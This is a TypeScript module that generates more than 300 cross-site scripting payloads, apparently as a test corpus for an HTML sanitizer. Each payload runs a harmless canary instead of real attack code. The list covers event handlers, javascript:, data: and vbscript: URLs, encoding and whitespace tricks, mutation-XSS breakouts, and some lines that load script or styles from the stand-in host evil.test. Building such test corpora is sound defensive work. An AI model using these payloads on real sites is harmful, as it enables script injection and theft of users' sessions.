/** Stands in every payload where only a program would see it, so that it may be in no text. */
export const CANARY = "CANARYWORD";

const CODE = `globalThis.${CANARY}=1`;

const HANDLERS = [
  "onload",
  "onerror",
  "onclick",
  "onmouseover",
  "onfocus",
  "onanimationstart",
  "ontoggle",
  "onbegin",
  "onpointerenter",
  "onwheel",
];

const ELEMENTS = [
  "img src=x",
  "svg",
  "body",
  "iframe",
  "input autofocus",
  "details open",
  "video src=x",
  "audio src=x",
  "object data=x",
  "marquee",
  "a href=x",
  "math",
  "select autofocus",
  "form",
  "svg><animate",
  "x-y",
];

const ADDRESSES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `&#106;avascript:${CODE}`,
  `java\tscript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,${btoa(`<script>${CODE}</script>`)}`,
  `vbscript:${CODE}`,
  `//evil.test/${CANARY}`,
  `https://evil.test/${CANARY}.js`,
];

const LINKS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">word</a>`,
  (address) => `<a xlink:href="${address}">word</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<link rel="stylesheet" href="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<svg><use href="${address}"/><image href="${address}"/></svg>`,
];

const WHOLE = [
  `<script>${CODE}</script>`,
  `<SCRIPT>${CODE}</SCRIPT>`,
  `<script >${CODE}</script >`,
  `<script/x>${CODE}</script>`,
  `<p title='"><script>${CODE}</script>'></p>`,
  `<<script>${CODE}//<</script>`,
  `<style>@import 'https://evil.test/${CANARY}';</style>`,
  `<style>p{background:url(https://evil.test/${CANARY})}</style>`,
  `<div style="background:url(javascript:${CODE})"></div>`,
  `<div style="width:expression(${CODE})"></div>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><style><img src=x onerror="${CODE}"></style></svg>`,
  `<template><script>${CODE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>"></noscript>`,
  `<!--<img src="--><img src=x onerror=${CODE}>`,
  `<!-- <script>${CODE}</script> -->`,
  `<iframe srcdoc="<script>${CODE}</script>"></iframe>`,
  `<textarea><script>${CODE}</script></textarea>`,
  `<select><option><script>${CODE}</script></option></select>`,
  `<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=${CODE}>">`,
  `<object><param name=movie value="javascript:${CODE}"></object>`,
];

/** Ways to make a page run something or fetch something, more than 300, each of them HTML. */
export const PAYLOADS: string[] = [
  ...WHOLE,
  ...ELEMENTS.flatMap((element) =>
    HANDLERS.map((handler) => `<${element} ${handler}="${CODE}"></${element.split(" ", 1)[0]}>`),
  ),
  ...LINKS.flatMap((link) => ADDRESSES.map((address) => link(address.replaceAll('"', "&quot;")))),
];
